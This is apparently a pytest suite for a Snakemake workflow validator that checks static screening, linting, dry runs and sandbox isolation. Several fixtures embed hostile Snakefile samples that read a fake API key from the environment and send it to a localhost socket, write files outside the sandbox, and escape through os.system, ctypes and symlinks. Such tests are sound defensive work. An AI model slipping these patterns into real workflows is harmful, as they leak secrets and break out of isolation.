"""End to end: tiny workflows through static screen, `snakemake --lint` and `snakemake -n` in the sandbox."""

from __future__ import annotations

import os
import socket
import sys
from pathlib import Path

import pytest

import biopipelines.validation.snakemake_checks as checks
from biopipelines.core.schemas import CheckResult
from biopipelines.validation import validate_dir, validate_files
from biopipelines.validation.sandbox import Isolation, detect_isolation, run_sandboxed

SNAKEFILE = '''\
configfile: "config/config.yaml"
include: "rules/copy.smk"

rule all:
    input: expand("results/{sample}.txt", sample=config["samples"])
'''

COPY_RULES = '''\
rule copy:
    input: "data/{sample}.txt"
    output: "results/{sample}.txt"
    log: "logs/copy/{sample}.log"
    conda: "../envs/coreutils.yaml"
    shell:
        "cat {input} > {output} 2> {log}"
'''


def minimal_workflow() -> dict[str, str]:
    return {
        "workflow/Snakefile": SNAKEFILE,
        "workflow/rules/copy.smk": COPY_RULES,
        "workflow/envs/coreutils.yaml": "channels: [conda-forge]\ndependencies: [coreutils=9.5]\n",
        "config/config.yaml": "samples: [a, b]\n",
        ".test/config/config.yaml": "samples: [a, b]\n",
        ".test/data/a.txt": "A\n",
        ".test/data/b.txt": "B\n",
    }


def write(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def by_check(results: list[CheckResult]) -> dict[str, CheckResult]:
    return {r.check: r for r in results}


def test_valid_minimal_workflow_passes_all_checks(tmp_path: Path) -> None:
    results = validate_dir(write(tmp_path, minimal_workflow()))
    assert [r.check for r in results] == ["static_screen", "snakemake_lint", "dry_run"]
    assert all(r.ok for r in results), results
    assert by_check(results)["dry_run"].details == "3 jobs: copy x2, all x1"
    assert not (tmp_path / ".test" / "results").exists()  # ran in a copy, not in the caller's directory


@pytest.mark.parametrize("with_rules_before", [False, True])
def test_syntax_error_is_reported_with_file_and_line(with_rules_before: bool) -> None:
    files = minimal_workflow()
    line = 9 if with_rules_before else 1
    prefix = COPY_RULES + "\n" if with_rules_before else ""
    files["workflow/rules/copy.smk"] = prefix + "rule broken\n    output: 'x'\n"
    results = by_check(validate_files(files))
    lint = results["snakemake_lint"]
    assert not lint.ok
    assert lint.details.startswith(f"SyntaxError at workflow/rules/copy.smk line {line}: Expected name or colon")
    assert lint.details.endswith("\n    rule broken")
    assert "KeyError" not in lint.details
    assert not results["dry_run"].ok and f"line {line}:" in results["dry_run"].details


@pytest.mark.parametrize(("broken_line", "content"), [(1, "rule broken\n"), (9, COPY_RULES + "\nrule broken\n")])
def test_snakemake_itself_misreports_parser_syntax_errors(tmp_path: Path, broken_line: int, content: str) -> None:
    """The quirk the checks work around (Snakemake 9.x): a syntax error raised by Snakemake's own parser is looked
    up in the generated-code line map, which gives `KeyError: <line>` or a wrong line. If this test fails,
    Snakemake fixed it upstream and snakemake_checks could trust its message again."""
    files = minimal_workflow()
    files["workflow/rules/copy.smk"] = content + "    output: 'x.txt'\n"
    command = [sys.executable, "-m", "snakemake", "-s", "workflow/Snakefile", "--directory", ".test", "--lint"]
    result = run_sandboxed(command, write(tmp_path, files), timeout_s=60)
    assert result.returncode != 0
    assert "Failed to setup log file" not in result.stderr  # the working directory is writable in the jail
    assert f'copy.smk", line {broken_line}:' not in result.stderr, result.stderr[-400:]
    if broken_line == 1:
        assert result.stderr.rstrip().endswith("KeyError: 1"), result.stderr[-300:]


def test_python_syntax_error_in_snakefile_names_the_line() -> None:
    files = minimal_workflow()
    files["workflow/Snakefile"] = SNAKEFILE.replace('configfile: "config/config.yaml"\n',
                                                    'configfile: "config/config.yaml"\nx = = 1\n')
    lint = by_check(validate_files(files))["snakemake_lint"]
    assert not lint.ok
    assert lint.details.startswith("SyntaxError at workflow/Snakefile line 2: invalid syntax")
    assert "x = = 1" in lint.details


def test_missing_input_fails_dry_run_and_names_the_file() -> None:
    files = minimal_workflow()
    del files[".test/data/b.txt"]
    results = by_check(validate_files(files))
    assert results["static_screen"].ok and results["snakemake_lint"].ok
    dry_run = results["dry_run"]
    assert not dry_run.ok
    assert "MissingInputException" in dry_run.details and "data/b.txt" in dry_run.details
    assert "rule copy" in dry_run.details
    assert len(dry_run.details) <= 1700
    assert "/tmp/" not in dry_run.details  # sandbox paths are made relative


def test_rule_without_log_fails_lint(tmp_path: Path) -> None:
    files = minimal_workflow()
    files["workflow/rules/copy.smk"] = (COPY_RULES.replace('    log: "logs/copy/{sample}.log"\n', "")
                                        .replace(" 2> {log}", ""))
    results = by_check(validate_dir(write(tmp_path, files)))
    lint = results["snakemake_lint"]
    assert not lint.ok
    assert lint.details == "1 lint(s):\n- rule copy (workflow/rules/copy.smk line 1): No log directive defined"
    assert results["dry_run"].ok  # a lint is not a broken workflow


HOSTILE_SNAKEFILE = '''\
import os, socket
observed = {{"env": os.environ.get("BIOPIPELINES_FAKE_API_KEY", "<absent>")}}
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2)
    observed["socket"] = "connected"
except OSError as exc:
    observed["socket"] = "blocked"
try:
    with open({marker!r}, "w") as handle:
        handle.write("escaped")
    observed["marker"] = "written"
except OSError as exc:
    observed["marker"] = "blocked"
raise Exception("OBSERVED " + repr(sorted(observed.items())))
'''


@pytest.fixture()
def hostile(tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    monkeypatch.setenv("BIOPIPELINES_FAKE_API_KEY", "sk-fake-0123456789")
    marker = tmp_path / "marker.txt"
    files = minimal_workflow()
    files["workflow/Snakefile"] = HOSTILE_SNAKEFILE.format(port=listener.getsockname()[1], marker=str(marker))
    return write(tmp_path / "wf", files), marker


def test_static_screen_rejects_hostile_snakefile_without_running_it(hostile: tuple[Path, Path],
                                                                    listener: socket.socket) -> None:
    workflow, marker = hostile
    results = validate_dir(workflow)
    assert [r.check for r in results] == ["static_screen"]
    screen = results[0]
    assert not screen.ok
    for expected in ("line 1: imports 'socket'", "[py-env-secret]", "line 9: open() uses"):
        assert expected in screen.details, screen.details
    assert not marker.exists()
    with pytest.raises(TimeoutError):
        listener.accept()


def test_sandbox_contains_hostile_snakefile_when_screen_is_bypassed(
    hostile: tuple[Path, Path], listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Both sandbox layers together: the audit guard blocks first, and the check fails saying what it blocked."""
    workflow, marker = hostile
    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
    lint = by_check(validate_dir(workflow, timeout_s=60))["snakemake_lint"]
    assert not lint.ok, lint.details
    assert "blocked network access" in lint.details and "127.0.0.1" in lint.details, lint.details
    assert f"blocked writing {str(marker)!r}" in lint.details, lint.details
    assert "sk-fake" not in lint.details
    assert not marker.exists()
    with pytest.raises(TimeoutError):
        listener.accept()


def test_namespaces_alone_contain_hostile_snakefile(
    hostile: tuple[Path, Path], listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first layer on its own (no static screen, no audit guard): namespaces and the scrubbed environment."""
    workflow, marker = hostile
    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
    monkeypatch.setattr(checks, "_guarded_snakemake", lambda box, log: [sys.executable, "-m", "snakemake"])
    lint = by_check(validate_dir(workflow, timeout_s=60))["snakemake_lint"]
    assert not lint.ok and "OBSERVED" in lint.details, lint.details
    assert "('env', '<absent>')" in lint.details and "sk-fake" not in lint.details
    isolation = detect_isolation()
    if isolation.network:
        assert "('socket', 'blocked')" in lint.details
        with pytest.raises(TimeoutError):
            listener.accept()
    else:  # the machine cannot isolate the network, and says so (the audit guard covers this case)
        assert isolation.reason and "('socket', 'connected')" in lint.details
    if isolation.filesystem:
        assert "('marker', 'blocked')" in lint.details
        assert not marker.exists()
    else:
        assert isolation.reason and marker.exists()


QUIET_HOSTILE_SNAKEFILE = '''\
import os, socket
key = os.environ.get("BIOPIPELINES_FAKE_API_KEY", "")
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(key.encode())
except Exception:
    pass
try:
    with open({marker!r}, "w") as handle:
        handle.write("escaped " + key)
except Exception:
    pass
'''


def test_audit_guard_fails_the_check_without_namespaces(
    tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A machine with no user namespaces and a Snakefile that hides its failures: still prevented, still failed."""
    import biopipelines.validation.sandbox as sandbox

    monkeypatch.setenv("BIOPIPELINES_FAKE_API_KEY", "sk-fake-0123456789")
    monkeypatch.setattr(sandbox, "detect_isolation", lambda: Isolation(reason="simulated: no user namespaces"))
    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
    marker = tmp_path / "marker.txt"
    files = minimal_workflow()
    files["workflow/Snakefile"] = QUIET_HOSTILE_SNAKEFILE.format(
        port=listener.getsockname()[1], marker=str(marker)) + SNAKEFILE
    results = by_check(validate_dir(write(tmp_path / "wf", files), timeout_s=60))
    for check in ("snakemake_lint", "dry_run"):
        assert not results[check].ok, results[check].details
        assert "blocked network access" in results[check].details and "blocked writing" in results[check].details
        assert "simulated: no user namespaces" in results[check].details  # says which isolation was missing
    assert not marker.exists()
    with pytest.raises(TimeoutError):
        listener.accept()


GUARDED_ESCAPES = {
    "process": ('import os\nos.system("touch {marker}")\n', "blocked starting a process"),
    "ctypes": ('import ctypes\ntry:\n    ctypes.CDLL(None).system(b"touch {marker}")\nexcept Exception:\n    pass\n',
               "through ctypes"),
    "which": ('import subprocess\nsubprocess.run(["which", "touch"])\n', "blocked starting a process"),
    "symlink": ('import os\nos.symlink("{outside}", "escape")\nopen("escape/marker.txt", "w").write("x")\n',
                "blocked writing"),
}


@pytest.mark.parametrize("name", sorted(GUARDED_ESCAPES))
def test_audit_guard_blocks_other_escapes(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Processes, raw libc calls and symlinks out of the copy: blocked, and the check fails saying so."""
    monkeypatch.setattr(checks, "screen_workflow", lambda files: [])
    outside = tmp_path / "outside"
    outside.mkdir()
    marker = outside / "marker.txt"
    code, expected = GUARDED_ESCAPES[name]
    files = minimal_workflow()
    files["workflow/Snakefile"] = code.format(marker=marker, outside=outside) + SNAKEFILE
    lint = by_check(validate_files(files, timeout_s=60))["snakemake_lint"]
    assert not lint.ok and expected in lint.details, lint.details
    assert not marker.exists()


def test_audit_guard_allows_only_the_slurm_plugins_exact_probes(tmp_path: Path) -> None:
    """snakemake-executor-plugin-slurm runs `which sacct`, `which squeue` and `scontrol show config` when Snakemake
    imports it: those exact argv pass, anything more or else does not."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("audit_guard", checks._AUDIT_GUARD)
    guard_module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(guard_module)
    guard = guard_module.Guard(os.open(tmp_path / "log", os.O_WRONLY | os.O_CREAT), [str(tmp_path)])
    for argv in (["which", "sacct"], ["which", "squeue"], ["scontrol", "show", "config"]):
        guard("subprocess.Popen", (None, argv, None, None))
    for argv in (["which", "touch"], ["scontrol", "show", "config", "x"], ["scontrol", "update"], "which sacct"):
        with pytest.raises(PermissionError):
            guard("subprocess.Popen", (None, argv, None, None))


def test_the_sandbox_copy_skips_run_records_and_named_pipes(tmp_path: Path) -> None:
    """A workflow that ran may hold a failed tool's fifos (STAR's _STARtmp) and its run records: not copied."""
    from biopipelines.validation.sandbox import _not_copied

    os.mkfifo(tmp_path / "tmp.fifo.read1")
    (tmp_path / ".biopipelines").mkdir()
    (tmp_path / "Snakefile").write_text("")
    assert _not_copied(str(tmp_path), ["tmp.fifo.read1", ".biopipelines", "Snakefile"]) == {"tmp.fifo.read1",
                                                                                          ".biopipelines"}


def test_endless_loop_at_parse_time_times_out_cleanly() -> None:
    files = minimal_workflow()
    files["workflow/Snakefile"] = "while True:\n    pass\n" + SNAKEFILE
    results = by_check(validate_files(files, timeout_s=4))
    assert results["static_screen"].ok
    assert not results["snakemake_lint"].ok and "timed out after 4 s" in results["snakemake_lint"].details
    # lint and the dry run run side by side, so the dry run hits the same limit rather than finding no budget left
    assert not results["dry_run"].ok and "timed out after 4 s" in results["dry_run"].details


def test_missing_snakemake_is_a_failing_check(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checks.importlib.util, "find_spec", lambda name: None)
    results = by_check(validate_files(minimal_workflow()))
    assert results["static_screen"].ok
    assert not results["snakemake_lint"].ok and "Snakemake is not installed" in results["snakemake_lint"].details
    assert not results["dry_run"].ok


def test_missing_snakefile_is_a_failing_check(tmp_path: Path) -> None:
    results = by_check(validate_dir(write(tmp_path, {"config/config.yaml": "samples: []\n"})))
    assert not results["snakemake_lint"].ok and "no Snakefile" in results["snakemake_lint"].details
